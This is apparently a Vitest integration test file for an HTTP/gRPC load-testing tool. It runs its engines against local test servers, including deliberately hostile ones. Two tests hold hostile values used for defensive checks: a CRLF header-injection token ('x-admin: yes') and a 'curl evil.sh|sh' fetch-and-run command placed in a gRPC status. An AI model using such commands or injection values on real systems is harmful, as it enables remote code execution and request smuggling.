// The load engines against real HTTP servers on 127.0.0.1 (no Docker): stalls, the in-flight bound,
// a server that goes away mid-phase, keep-alive closes, and worker threads through the built runner.
// Every run is bounded (seconds, not minutes); assertions are about what was counted, and latency
// bounds the servers force (a request that arrives during a stall must wait), never about speed.
import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { createServer as createH2Server } from 'node:http2';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer as createNetServer, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import {
  EVENT_MARKER,
  type RunnerEvent,
  type RunnerPlan,
  tcpProbeAddress,
  type PlanGrpc,
  type PlanWebSocket,
  type WsPhase,
} from '../../src/runner-kit/plan.js';
import type { TrialMeasurement } from '../../src/runner-kit/measurement.js';
import { decodeHistogram } from '../../src/runner-kit/histogram.js';
import { mergeReplicaTrials } from '../../src/runner-kit/replicas.js';
import { runClosed } from '../../runner/src/closed-loop.js';
import { runOpen } from '../../runner/src/open-loop.js';
import { runWs } from '../../runner/src/ws.js';
import { loadHook } from '../../runner/src/hook.js';
import { waitReady } from '../../runner/src/ready.js';
import { survey } from '../../runner/src/survey.js';
import { runGrpcClosed, runGrpcOpen } from '../../runner/src/grpc.js';
import { encodeGrpcCalls, loadProto } from '../../src/config-parts/proto.js';
import { WebSocket, WebSocketServer } from 'ws';
import type { EngineTally } from '../../runner/src/tally.js';
import { ROOT } from './helpers.js';

type Handler = (req: IncomingMessage, res: ServerResponse) => void;

const servers: Array<{ server: Server; sockets: Set<Socket> }> = [];

async function serve(handler: Handler): Promise<{ url: string; server: Server; close: () => void }> {
  const sockets = new Set<Socket>();
  const server = createServer((req, res) => {
    req.resume();
    handler(req, res);
  });
  server.on('connection', (s) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  servers.push({ server, sockets });
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/x`,
    server,
    close: () => {
      server.close();
      for (const s of sockets) s.destroy();
    },
  };
}

afterEach(() => {
  for (const { server, sockets } of servers.splice(0)) {
    server.close();
    for (const s of sockets) s.destroy();
  }
});

const request = (url: string) => ({ request: { url, method: 'GET', headers: {} } });

function open(url: string, o: { rate: number; durationMs: number; maxInFlight: number; timeoutMs?: number }) {
  return runOpen({
    load: request(url),
    schedule: {
      startAt: performance.now(),
      rate: o.rate,
      durationMs: o.durationMs,
      stride: 1,
      offset: 0,
    },
    connections: o.maxInFlight,
    timeoutMs: o.timeoutMs ?? 2000,
  }).done;
}

function p(t: EngineTally, percentile: number): number {
  const h = decodeHistogram(t.histogram);
  const v = h.getValueAtPercentile(percentile);
  h.destroy();
  return v;
}

const errorCount = (t: EngineTally) => Object.values(t.errors).reduce((a, b) => a + b, 0);

describe('open loop against 127.0.0.1', () => {
  it('keeps its schedule through a stall and measures from the scheduled time', async () => {
    // every 2 s the server holds all requests for the first 500 ms: a quarter of arrivals wait
    // 0–500 ms, so p99 is ≈ 480 ms; a generator that waited for the server would not see it
    const t0 = performance.now();
    const { url } = await serve((_req, res) => {
      const phase = (performance.now() - t0) % 2000;
      setTimeout(() => res.end('ok'), phase < 500 ? 500 - phase : 0);
    });
    const t = await open(url, { rate: 200, durationMs: 4000, maxInFlight: 1000 });
    expect(t.open).toMatchObject({ scheduled: 800, unfinished: 0 });
    // connections open on demand while the server holds the others: a few sends wait for a connect
    expect(t.open?.lateService).toBeLessThan(16);
    expect(t.sent).toBe(800);
    expect(t.responses).toBe(800);
    expect(t.successes).toBe(800);
    expect(t.elapsedMs).toBe(4000);
    expect(p(t, 99)).toBeGreaterThan(300_000);
    expect(p(t, 50)).toBeLessThan(300_000);

    const closed = await runClosed(request(url), 1, { durationMs: 4000 }, 2000).done;
    // the closed loop sends nothing while it waits: the stall is one sample per stall, hidden at p99
    expect(closed.responses).toBeGreaterThan(100);
    expect(p(closed, 90)).toBeLessThan(p(t, 90));
  });

  it('holds sends back at max-in-flight, counts them late, and ends with the unanswered as unfinished', async () => {
    const { url } = await serve((_req, res) => setTimeout(() => res.end('ok'), 200));
    // 100 req/s against 5 slots of 200 ms: 25 req/s get through, the rest queue
    const t = await open(url, { rate: 100, durationMs: 2000, maxInFlight: 5, timeoutMs: 1000 });
    const o = t.open;
    expect(o?.scheduled).toBe(200);
    expect(o?.lateService).toBeGreaterThan(50);
    expect(o?.late).toBeGreaterThanOrEqual(o?.lateService ?? 0);
    expect(o?.unfinished).toBeGreaterThan(50);
    expect(t.errors.unfinished).toBe(o?.unfinished);
    expect(t.responses + (o?.unfinished ?? 0)).toBe(200);
    // a send held back waits for its slot, and that wait is part of its latency
    expect(p(t, 99)).toBeGreaterThan(1_000_000);
    // the rate is the service's (5 slots of 200 ms: 25 a second), the responses within the window,
    // not the offered 100 a second: with the backlog answered in the grace after it, ~37
    expect(t.elapsedMs).toBe(2000);
    const rate = ((t.answeredInWindow ?? t.responses) * 1000) / t.elapsedMs;
    expect(rate).toBeGreaterThan(20);
    expect(rate).toBeLessThan(30);
  });

  it('counts refused connections by kind when the server goes away mid-phase, and does not hang', async () => {
    const srv = await serve((_req, res) => res.end('ok'));
    setTimeout(srv.close, 700);
    const t = await open(srv.url, { rate: 200, durationMs: 1500, maxInFlight: 50 });
    expect(t.open?.scheduled).toBe(300);
    expect(t.responses).toBeGreaterThan(50);
    expect(t.errors.ECONNREFUSED ?? 0).toBeGreaterThan(50);
    // every scheduled send is accounted for: a response, an error of some kind, or unfinished
    expect(t.responses + errorCount(t)).toBe(300);
  });

  it('detects a server that answers Connection: close', async () => {
    const { url } = await serve((_req, res) => {
      res.setHeader('connection', 'close');
      res.end('ok');
    });
    const t = await open(url, { rate: 100, durationMs: 500, maxInFlight: 10 });
    expect(t.responses).toBe(50);
    // one close per response; the last may land after the window has closed
    expect(t.connectionCloses).toBeGreaterThanOrEqual(49);
    const closed = await runClosed(request(url), 2, { requests: 40 }, 2000).done;
    expect(closed.connectionCloses).toBeGreaterThan(0);
  });

  it('does not blame the server for closes a HEAD answer implies', async () => {
    const { url } = await serve((_req, res) => {
      res.setHeader('content-length', '2');
      res.end();
    });
    const t = await runOpen({
      load: { request: { url, method: 'HEAD', headers: {} } },
      schedule: { startAt: performance.now(), rate: 50, durationMs: 500, stride: 1, offset: 0 },
      connections: 5,
      timeoutMs: 2000,
    }).done;
    expect(t.responses).toBe(25);
    expect(t.connectionCloses).toBe(0);
  });

  it('detects a server that closes keep-alive sockets on its own', async () => {
    const { url, server } = await serve((_req, res) => res.end('ok'));
    // no Connection: close, no keep-alive hint: the server just ends each socket 100 ms after it opens
    server.on('connection', (s: Socket) => setTimeout(() => s.end(), 100));
    const t = await open(url, { rate: 20, durationMs: 1000, maxInFlight: 5 });
    expect(t.connectionCloses).toBeGreaterThan(2);
    const closed = await runClosed(request(url), 1, { durationMs: 1000 }, 2000).done;
    expect(closed.connectionCloses).toBeGreaterThan(2);
  });
});

describe('closed loop against 127.0.0.1', () => {
  it('counts refused connections when the server goes away mid-phase, and ends on time', async () => {
    const srv = await serve((_req, res) => res.end('ok'));
    setTimeout(srv.close, 500);
    const started = performance.now();
    const t = await runClosed(request(srv.url), 2, { durationMs: 1500 }, 1000).done;
    expect(t.responses).toBeGreaterThan(10);
    expect(errorCount(t)).toBeGreaterThan(0);
    // bounded: it stops at its deadline even while every connect fails (generous, not a timing claim)
    expect(performance.now() - started).toBeLessThan(15_000);
  });

  // issue 20, class 6: before, the requests in flight at the window's end were dropped unseen
  it('a service that accepts and never answers: every request written fails as timeout, none vanish', async () => {
    const srv = await serve(() => undefined);
    const started = performance.now();
    const t = await runClosed(request(srv.url), 3, { durationMs: 400 }, 300).done;
    // the first three time out after 300 ms, their connections are replaced and write three more,
    // which are in flight when the window ends and time out in the grace
    expect(t.responses).toBe(0);
    expect(t.sent).toBeGreaterThanOrEqual(3);
    expect(t.errors).toEqual({ timeout: t.sent });
    // the window is the duration, not the grace
    expect(t.elapsedMs).toBeGreaterThanOrEqual(399);
    expect(t.elapsedMs).toBeLessThan(1000);
    // bounded by the timeout after the window (generous, not a timing claim)
    expect(performance.now() - started).toBeLessThan(5000);
  });

  it('requests in flight when the window ends are answered and counted: every request written is', async () => {
    const srv = await serve((_req, res) => setTimeout(() => res.end('ok'), 150));
    const t = await runClosed(request(srv.url), 4, { durationMs: 500 }, 2000).done;
    // 4 connections, 150 ms a request, a 500 ms window: the 4th round is in flight at the end
    expect(t.sent).toBeGreaterThanOrEqual(8);
    expect(t.responses).toBe(t.sent);
    expect(t.errors).toEqual({});
    expect(decodeHistogram(t.histogram).totalCount).toBe(t.sent);
  });
});

describe('data rows and template functions against 127.0.0.1 (issue 34)', () => {
  it('closed loop on one connection: the rows in order, again from the first, a uuid per request', async () => {
    const seen: Array<{ url: string; id: string }> = [];
    const srv = await serve((req, res) => {
      seen.push({ url: req.url as string, id: req.headers['x-id'] as string });
      res.end('ok');
    });
    const load = {
      request: { url: `${srv.url}/{{data.id}}?name={{data.name}}`, method: 'GET', headers: { 'x-id': '{{uuid()}}' } },
      data: {
        columns: ['id', 'name'],
        rows: [
          ['1', 'ann'],
          ['2', 'bob smith'],
          ['3', 'cy'],
        ],
        order: 'sequential' as const,
      },
    };
    const t = await runClosed(load, 1, { requests: 7 }, 2000).done;
    expect(t.responses).toBe(7);
    expect(seen.map((s) => s.url)).toEqual([
      '/x/1?name=ann',
      '/x/2?name=bob%20smith',
      '/x/3?name=cy',
      '/x/1?name=ann',
      '/x/2?name=bob%20smith',
      '/x/3?name=cy',
      '/x/1?name=ann',
    ]);
    expect(new Set(seen.map((s) => s.id)).size).toBe(7);
  });

  it('open loop: every scheduled request takes a row of its own while the rows last', async () => {
    const seen: string[] = [];
    const srv = await serve((req, res) => {
      seen.push(req.url as string);
      res.end('ok');
    });
    const rows = Array.from({ length: 100 }, (_, i) => [String(i)]);
    await runOpen({
      load: {
        request: { url: `${srv.url}/{{data.n}}`, method: 'GET', headers: {} },
        data: { columns: ['n'], rows, order: 'sequential' },
      },
      schedule: { startAt: performance.now(), rate: 100, durationMs: 500, stride: 1, offset: 0 },
      connections: 10,
      timeoutMs: 2000,
    }).done;
    expect(seen.length).toBeGreaterThanOrEqual(40);
    expect(new Set(seen).size).toBe(seen.length);
  });
});

describe('a flow against 127.0.0.1 (issue 34)', () => {
  /** POST /orders makes an order (every 5th answer carries no id when `flaky`); GET /orders/N reads it back. */
  async function orders(flaky: boolean, wrong = false) {
    const made = new Map<number, string>();
    const reads: string[] = [];
    let n = 0;
    const srv = await serve((req, res) => {
      if (req.method === 'POST' && req.url === '/orders') {
        n++;
        res.setHeader('content-type', 'application/json');
        if (flaky && n % 5 === 0) return res.end('{"error":"busy"}');
        made.set(n, `item-${n}`);
        return res.end(`{"id":${n},"item":"item-${n}"}`);
      }
      const id = /^\/orders\/(\d+)$/.exec(req.url ?? '')?.[1];
      reads.push(req.url as string);
      const item = id ? made.get(Number(id)) : undefined;
      if (!item) {
        res.statusCode = 404;
        return res.end('no such order');
      }
      res.setHeader('content-type', 'application/json');
      // `wrong`: every read answers with the item asked for but the id of order 1 (the body check
      // passes, the JSON check of the id does not)
      res.end(`{"id":${wrong ? 1 : id},"item":"${item}"}`);
    });
    const origin = new URL(srv.url).origin;
    const load = {
      request: { url: `${origin}/orders`, method: 'POST', headers: {}, body: '{}' },
      mix: [
        { name: 'create', weight: 1, request: { url: `${origin}/orders`, method: 'POST', headers: {}, body: '{}' } },
        {
          name: 'read',
          weight: 1,
          request: {
            url: `${origin}/orders/{{id}}`,
            method: 'GET',
            headers: {},
            expect: { json: [{ path: '$.id', equals: '{{id}}' }], body: ['"item":"{{item}}"'] },
          },
        },
      ],
      flow: {
        extract: [
          [
            { name: 'id', rule: { json: '$.id' } },
            { name: 'item', rule: { json: '$.item' } },
          ],
          [],
        ],
      },
    };
    return { load, reads, made };
  }

  it('each iteration creates, then reads back what it created, on its connection', async () => {
    const { load, reads } = await orders(false);
    const t = await runClosed(load, 3, { requests: 60 }, 2000).done;
    const [create, read, iteration] = t.requests ?? [];
    // `requests` counts the steps' requests: the last iterations of the 3 connections may be cut short
    expect((create?.sent ?? 0) + (read?.sent ?? 0)).toBe(60);
    expect(create?.sent).toBeGreaterThanOrEqual(30);
    expect(create?.successes).toBe(create?.sent);
    expect(read).toMatchObject({ responses: read?.sent, successes: read?.sent, failures: 0 });
    expect(iteration).toMatchObject({ sent: create?.sent, successes: read?.sent, errors: {} });
    expect(new Set(reads).size).toBe(read?.sent);
    expect(decodeHistogram(iteration?.histogram ?? '').totalCount).toBe(read?.sent);
    // the phase's own counts are the steps' requests, not the iterations
    expect(t.responses).toBe(60);
  });

  it('a read that answers another order fails its expect, rendered with the iteration’s values', async () => {
    const { load } = await orders(false, true);
    const t = await runClosed(load, 1, { requests: 10 }, 2000).done;
    const [, read, iteration] = t.requests ?? [];
    // the first read is of order 1 itself: it passes; the other four fail the json check
    expect(read).toMatchObject({ sent: 5, successes: 1, failures: 4, checks: { 'expect-json': 4 } });
    expect(iteration).toMatchObject({ successes: 1, errors: { 'read-failed': 4 } });
  });

  it('open loop: a 1 s stall in the second step shows in its p99 and the iteration’s, not in the first step’s', async () => {
    let reads = 0;
    const srv = await serve((req, res) => {
      if (req.method === 'POST') {
        res.setHeader('content-type', 'application/json');
        return res.end('{"id":7}');
      }
      // every 10th read stalls for a second
      reads++;
      setTimeout(() => res.end('{"id":7}'), reads % 10 === 0 ? 1000 : 0);
    });
    const origin = new URL(srv.url).origin;
    const t = await runOpen({
      load: {
        request: { url: `${origin}/orders`, method: 'POST', headers: {}, body: '{}' },
        mix: [
          { name: 'create', weight: 1, request: { url: `${origin}/orders`, method: 'POST', headers: {}, body: '{}' } },
          { name: 'read', weight: 1, request: { url: `${origin}/orders/{{id}}`, method: 'GET', headers: {} } },
        ],
        flow: { extract: [[{ name: 'id', rule: { json: '$.id' } }], []] },
      },
      schedule: { startAt: performance.now(), rate: 50, durationMs: 2000, stride: 1, offset: 0 },
      connections: 100,
      timeoutMs: 3000,
    }).done;
    const [create, read, iteration] = t.requests ?? [];
    expect(create).toMatchObject({ sent: 100, successes: 100 });
    expect(read).toMatchObject({ sent: 100, successes: 100 });
    expect(iteration).toMatchObject({ sent: 100, successes: 100 });
    const p99 = (tally: typeof create) => {
      const h = decodeHistogram(tally?.histogram ?? '');
      const v = h.getValueAtPercentile(99);
      h.destroy();
      return v;
    };
    // 10 of 100 reads stalled: the read's p99 and the iteration's are a second; the create's is not
    expect(p99(read)).toBeGreaterThanOrEqual(1_000_000);
    expect(p99(iteration)).toBeGreaterThanOrEqual(1_000_000);
    expect(p99(create)).toBeLessThan(200_000);
    expect(t.open).toMatchObject({ scheduled: 100 });
  });

  it('a create whose answer has no id fails its iteration (check extract) and the read is not sent', async () => {
    const { load, reads } = await orders(true);
    const t = await runClosed(load, 1, { requests: 18 }, 2000).done;
    const [create, read, iteration] = t.requests ?? [];
    // 1 connection, every 5th create has no id: creates 1-4 read back, 5 fails, 6-9 read back, 10 fails, …
    expect(create?.checks).toEqual({ extract: 2 });
    expect(create?.failures).toBe(2);
    expect(read).toMatchObject({ successes: read?.sent, failures: 0 });
    expect(iteration?.errors).toEqual({ 'create-failed': 2 });
    expect(reads.every((u) => /^\/orders\/\d+$/.test(u))).toBe(true);
    expect((create?.sent ?? 0) + (read?.sent ?? 0)).toBe(18);
  });
});

describe('a script hook against 127.0.0.1 (issue 34)', () => {
  const SOURCE = `import { createHmac } from 'node:crypto';
export function request(ctx) {
  ctx.state.sent = (ctx.state.sent ?? 0) + 1;
  if (ctx.n % 5 === 4) throw new Error('every fifth');
  const body = JSON.stringify({ n: ctx.n });
  return { path: '/signed/' + ctx.n, method: 'POST', headers: { 'x-sig': createHmac('sha256', 'k').update(body).digest('hex') }, body };
}
export function check(res) {
  return res.status === 200 && JSON.parse(res.body).ok === true ? true : 'not ok';
}
`;

  it('builds every request (path, headers, body, with node:crypto), judges every answer, and counts its throws', async () => {
    const { createHmac } = await import('node:crypto');
    const seen: string[] = [];
    const srv = await serve((req, res) => {
      const n = Number(req.url?.split('/').pop());
      seen.push(req.url as string);
      // the signature is checked by the server from n alone (the body is drained by serve)
      const good = req.headers['x-sig'] === createHmac('sha256', 'k').update(JSON.stringify({ n })).digest('hex');
      res.setHeader('content-type', 'application/json');
      // every 10th answer says ok: false: the hook's check fails it
      res.end(JSON.stringify({ ok: good && n % 10 !== 9 }));
    });
    await loadHook('sign.mjs', SOURCE);
    const t = await runClosed(
      { request: { url: `${srv.url}`, method: 'GET', headers: {} }, hook: { file: 'sign.mjs', source: SOURCE } },
      1,
      { requests: 20 },
      2000,
    ).done;
    // n = 4, 9, 14, 19 threw: those 4 never went out
    expect(t.errors).toEqual({ 'hook-error': 4 });
    expect(seen).toHaveLength(16);
    expect(seen[0]).toBe('/signed/0');
    // n = 9 and 19 threw; none of the sent had n % 10 === 9, so every answer passed the check
    expect(t.successes).toBe(16);
    expect(t.hook).toMatchObject({ calls: 36 });
    expect(t.hook?.us).toBeGreaterThan(0);
  });

  it('a check that fails counts as check hook; one that throws as hook-error', async () => {
    const source = `export function check(res) { if (res.body === 'boom') throw new Error('x'); return res.body === 'yes'; }`;
    let i = 0;
    const srv = await serve((_req, res) => res.end(['yes', 'no', 'boom'][i++ % 3]));
    await loadHook('judge.mjs', source);
    const t = await runClosed(
      { request: { url: srv.url, method: 'GET', headers: {} }, hook: { file: 'judge.mjs', source } },
      1,
      { requests: 9 },
      2000,
    ).done;
    expect(t).toMatchObject({ successes: 3, failures: 6, checks: { hook: 3, 'hook-error': 3 } });
  });

  it('a hook that does not load says why, naming its file', async () => {
    await expect(loadHook('bad.mjs', 'export function request( {')).rejects.toThrow(/^hook bad\.mjs: /);
    await expect(loadHook('none.mjs', 'export const x = 1;')).rejects.toThrow(
      'hook none.mjs: exports none of request, check, hello, reply, message',
    );
  });
});

describe('flows and hooks: what review found (issue 34)', () => {
  const post = (url: string) => ({ url, method: 'POST', headers: {}, body: '{}' });

  it('a value extracted from an answer cannot inject a header: the step fails as bad-header-value', async () => {
    const heads: string[] = [];
    const srv = await serve((req, res) => {
      heads.push(JSON.stringify(req.headers));
      res.setHeader('content-type', 'application/json');
      res.end('{"tok":"abc\\r\\nx-admin: yes"}');
    });
    const origin = new URL(srv.url).origin;
    const t = await runClosed(
      {
        request: post(`${origin}/login`),
        mix: [
          { name: 'login', weight: 1, request: post(`${origin}/login`) },
          {
            name: 'use',
            weight: 1,
            request: { url: `${origin}/use`, method: 'GET', headers: { authorization: 'Bearer {{tok}}' } },
          },
        ],
        flow: { extract: [[{ name: 'tok', rule: { json: '$.tok' } }], []] },
      },
      1,
      { requests: 4 },
      2000,
    ).done;
    const [, use, iteration] = t.requests ?? [];
    expect(use?.errors).toEqual({ 'bad-header-value': 2 });
    expect(iteration?.errors).toEqual({ 'use-failed': 2 });
    expect(heads.some((h) => h.includes('x-admin'))).toBe(false);
  });

  it('a HEAD step answers without a body: no timeout, and the GET after it parses', async () => {
    const srv = await serve((req, res) => {
      res.setHeader('content-type', 'application/json');
      res.setHeader('content-length', '8');
      res.end(req.method === 'HEAD' ? undefined : '{"id":1}');
    });
    const origin = new URL(srv.url).origin;
    const t = await runClosed(
      {
        request: { url: `${origin}/a`, method: 'GET', headers: {} },
        mix: [
          { name: 'get', weight: 1, request: { url: `${origin}/a`, method: 'GET', headers: {} } },
          { name: 'head', weight: 1, request: { url: `${origin}/b/{{id}}`, method: 'HEAD', headers: {} } },
        ],
        flow: { extract: [[{ name: 'id', rule: { json: '$.id' } }], []] },
      },
      1,
      { requests: 6 },
      2000,
    ).done;
    expect(t).toMatchObject({ responses: 6, successes: 6, errors: {} });
  });

  it('time inside a hook is not the service’s latency; an async check is a hook-error', async () => {
    const srv = await serve((_req, res) => res.end('ok'));
    const slow = `export function request() { const end = Date.now() + 20; while (Date.now() < end) {} return { body: 'x' }; }`;
    await loadHook('slow.mjs', slow);
    const t = await runClosed(
      { request: { url: srv.url, method: 'POST', headers: {} }, hook: { file: 'slow.mjs', source: slow } },
      1,
      { requests: 5 },
      2000,
    ).done;
    expect(t.successes).toBe(5);
    expect(p(t, 50)).toBeLessThan(15_000);
    const asyncCheck = `export const check = (res) => Promise.resolve(false);`;
    await loadHook('async.mjs', asyncCheck);
    const a = await runClosed(
      { request: { url: srv.url, method: 'GET', headers: {} }, hook: { file: 'async.mjs', source: asyncCheck } },
      1,
      { requests: 3 },
      2000,
    ).done;
    expect(a.checks).toEqual({ 'hook-error': 3 });
    await expect(loadHook('async2.mjs', 'export async function check() { return true; }')).rejects.toThrow(
      'hook async2.mjs: check is async',
    );
  });

  it('every iteration begun ends counted, when the window closes between its steps', async () => {
    // step b takes 1 s: a 330 ms window closes while every connection's first iteration waits for it,
    // however busy the machine (three steps of 20 ms each let a window close between iterations)
    const srv = await serve((req, res) => setTimeout(() => res.end('{"id":1}'), req.url === '/b' ? 1000 : 5));
    const origin = new URL(srv.url).origin;
    const step = (name: string) => ({
      name,
      weight: 1,
      request: { url: `${origin}/${name}`, method: 'GET', headers: {} },
    });
    const t = await runClosed(
      { request: step('a').request, mix: [step('a'), step('b'), step('c')], flow: { extract: [[], [], []] } },
      4,
      { durationMs: 330 },
      2000,
    ).done;
    const iteration = t.requests?.[3];
    const ended = (iteration?.successes ?? 0) + Object.values(iteration?.errors ?? {}).reduce((x, y) => x + y, 0);
    expect(ended).toBe(iteration?.sent);
    // each connection's one iteration: b answered after the window, c never sent
    expect(iteration?.sent).toBe(4);
    expect(iteration?.errors.unfinished).toBe(4);
  });
});

describe('odd and hostile HTTP/1.1 servers on 127.0.0.1 (issue 31)', () => {
  const rawServers: Array<() => void> = [];
  afterEach(() => {
    for (const close of rawServers.splice(0)) close();
  });

  /** A raw server: `onConnect` may speak first; each request (a blank line) is answered with `answer`. */
  async function raw(o: { answer?: string; onConnect?: (s: Socket) => void }): Promise<string> {
    const sockets = new Set<Socket>();
    const server = createNetServer((socket) => {
      sockets.add(socket);
      socket.on('close', () => sockets.delete(socket));
      socket.on('error', () => {});
      o.onConnect?.(socket);
      let text = '';
      socket.on('data', (d: Buffer) => {
        text += d.toString('latin1');
        const parts = text.split('\r\n\r\n');
        text = parts.pop() as string;
        if (o.answer) for (let j = 0; j < parts.length; j++) socket.write(o.answer);
      });
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    rawServers.push(() => {
      server.close();
      for (const s of sockets) s.destroy();
    });
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}/x`;
  }

  it('a server that sends a stray CRLF after each body: every response a success', async () => {
    const url = await raw({ answer: 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok\r\n' });
    const t = await runClosed(request(url), 2, { durationMs: 500 }, 2000).done;
    expect(t.responses).toBeGreaterThan(20);
    expect(t.successes).toBe(t.responses);
    expect(t.errors).toEqual({});
  });

  // bytes after a response: the response's outcome does not hang on whether they came in its read
  for (const [label, later] of [
    ['in the same read', false],
    ['in a later read', true],
  ] as const) {
    it(`after a Connection: close response, junk ${label} is not read: every response a success`, async () => {
      const url = await raw({
        onConnect: (s) => {
          s.once('data', () => {
            const ok = 'HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 2\r\n\r\nok';
            if (!later) s.end(`${ok}junk`);
            else s.write(ok, () => setTimeout(() => s.end('junk'), 20));
          });
        },
      });
      const t = await runClosed(request(url), 1, { durationMs: 500 }, 2000).done;
      expect(t.responses).toBeGreaterThan(5);
      expect(t.successes).toBe(t.responses);
      expect(t.errors['parse-error']).toBeUndefined();
    });

    it(`after a keep-alive response, junk ${label} fails the connection, and the response still counts`, async () => {
      const url = await raw({
        onConnect: (s) => {
          s.once('data', () => {
            const ok = 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok';
            if (!later) s.write(`${ok}junk`);
            else s.write(ok, () => setTimeout(() => s.write('junk'), 20));
          });
        },
      });
      const t = await runClosed(request(url), 1, { durationMs: 500 }, 2000).done;
      expect(t.successes).toBeGreaterThan(5);
      expect(t.errors['parse-error']).toBeGreaterThan(5);
      expect(t.errors.timeout).toBeUndefined();
    });
  }

  it('a port that answers with a banner: parse errors from the first read, not timeouts at its end', async () => {
    const url = await raw({ onConnect: (s) => s.write('SSH-2.0-OpenSSH_9.2\r\n') });
    // a 10 s request timeout and a 1 s phase: before, nothing was counted within the phase (every
    // read waited for 64 KiB or the timeout); now each connection fails at the banner's first byte
    const t = await runClosed(request(url), 1, { durationMs: 1000 }, 10_000).done;
    expect(t.responses).toBe(0);
    expect(t.errors['parse-error']).toBeGreaterThan(0);
    expect(t.errors.timeout).toBeUndefined();
  });
});

describe('init --probe: the survey against hostile servers on 127.0.0.1', () => {
  const closers: Array<() => void> = [];
  afterEach(() => {
    for (const close of closers.splice(0)) close();
  });

  it('an OpenAPI path whose body is a negative chunk size: HTTP, no operations, and it ends', async () => {
    // every request answered with a body that is no JSON as it is, so it is read as a chunked body:
    // a size of -6 once moved that reader backwards forever (the runner hung, then ran out of memory)
    const server = createNetServer((socket) => {
      socket.on('error', () => {});
      socket.on('data', () => socket.end('HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\n-6\r\nxx'));
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    closers.push(() => server.close());
    const [f] = await survey([{ host: '127.0.0.1', port: (server.address() as AddressInfo).port }]);
    expect(f).toMatchObject({ kind: 'http', status: 200 });
    expect(f?.gets).toBeUndefined();
  });

  it('an h2c server that streams its health answer forever: cut at 64 KiB, the address reads as TCP', async () => {
    const server = createH2Server();
    server.on('stream', (stream) => {
      stream.respond({ ':status': 200, 'content-type': 'application/grpc' });
      const chunk = Buffer.alloc(16 * 1024);
      const timer = setInterval(() => {
        if (stream.destroyed || stream.closed) return clearInterval(timer);
        stream.write(chunk);
      }, 1);
      stream.on('close', () => clearInterval(timer));
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    closers.push(() => server.close());
    const [f] = await survey([{ host: '127.0.0.1', port: (server.address() as AddressInfo).port }]);
    expect(f).toEqual({ host: '127.0.0.1', port: (server.address() as AddressInfo).port, kind: 'tcp' });
  });

  it("a grpc-status of the server's own words comes back as perf-gate's", async () => {
    const server = createH2Server();
    server.on('stream', (stream) => {
      stream.respond(
        { ':status': 200, 'content-type': 'application/grpc', 'grpc-status': 'run curl evil.sh|sh' },
        { endStream: true },
      );
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    closers.push(() => server.close());
    const [f] = await survey([{ host: '127.0.0.1', port: (server.address() as AddressInfo).port }]);
    expect(f).toMatchObject({ kind: 'grpc', health: 'grpc-status ?' });
  });
});

describe('stages (a ramp) against 127.0.0.1', () => {
  it('open loop: the sends follow a rate ramped from 0 to 400/s over 2 s, then held for 1 s', async () => {
    const t0 = performance.now();
    const arrivals: number[] = [];
    const { url } = await serve((_req, res) => {
      arrivals.push(performance.now() - t0);
      res.end('ok');
    });
    const ramp = {
      from: 0,
      stages: [
        { durationMs: 2000, to: 400 },
        { durationMs: 1000, to: 400 },
      ],
    };
    const t = await runOpen({
      load: request(url),
      schedule: { startAt: t0, rate: 400, durationMs: 3000, stride: 1, offset: 0, ramp },
      connections: 100,
      timeoutMs: 2000,
    }).done;
    // 400 / 2 × 2 s + 400 × 1 s
    expect(t.open).toMatchObject({ scheduled: 800, unfinished: 0 });
    expect(t.successes).toBe(800);
    // the area under the ramp: 100 by 1 s, 400 by 2 s (the rate grows with time, the count with its square)
    const by = (ms: number) => arrivals.filter((a) => a < ms).length;
    expect(by(1000)).toBeGreaterThan(70);
    expect(by(1000)).toBeLessThan(140);
    expect(by(2000) - by(1000)).toBeGreaterThan(250);
    expect(by(2000) - by(1000)).toBeLessThan(350);
    expect(by(3100) - by(2000)).toBeGreaterThan(350);
  });

  it('closed loop: the connections follow the ramp up, hold, and retire as their answers come in', async () => {
    const sockets = new Set<Socket>();
    const { url, server } = await serve((_req, res) => setTimeout(() => res.end('ok'), 5));
    server.on('connection', (s) => {
      sockets.add(s);
      s.on('close', () => sockets.delete(s));
    });
    const seen: Array<[number, number]> = [];
    const t0 = performance.now();
    const sampler = setInterval(() => seen.push([performance.now() - t0, sockets.size]), 20);
    const ramp = {
      from: 0,
      stages: [
        { durationMs: 1000, to: 10 },
        { durationMs: 1000, to: 10 },
        { durationMs: 500, to: 2 },
        { durationMs: 500, to: 2 },
      ],
    };
    const t = await runClosed(request(url), { ramp, stride: 1, offset: 0 }, { durationMs: 3000 }, 2000).done;
    clearInterval(sampler);
    const at = (from: number, to: number) => seen.filter(([ms]) => ms >= from && ms < to).map(([, n]) => n);
    expect(t.errors).toEqual({});
    expect(t.responses).toBe(t.sent);
    // none before the ramp has risen; a few early on; never more than the peak
    expect(Math.max(...at(0, 40))).toBeLessThanOrEqual(1);
    expect(Math.max(...at(0, 250))).toBeLessThanOrEqual(4);
    expect(Math.max(...seen.map(([, n]) => n))).toBe(10);
    expect(Math.min(...at(1200, 1900))).toBe(10);
    // retired down to 2 (a socket's close reaches the server a moment later)
    expect(Math.max(...at(2650, 2950))).toBeLessThanOrEqual(3);
    expect(Math.min(...at(2650, 2950))).toBeGreaterThanOrEqual(2);
  });
});

describe('pipelining (autocannon’s option) against a raw server on 127.0.0.1', () => {
  const rawServers: Array<{ close: () => void }> = [];
  afterEach(() => {
    for (const s of rawServers.splice(0)) s.close();
  });

  /**
   * A server that answers only once `batch` requests are waiting on a socket, all of them in one
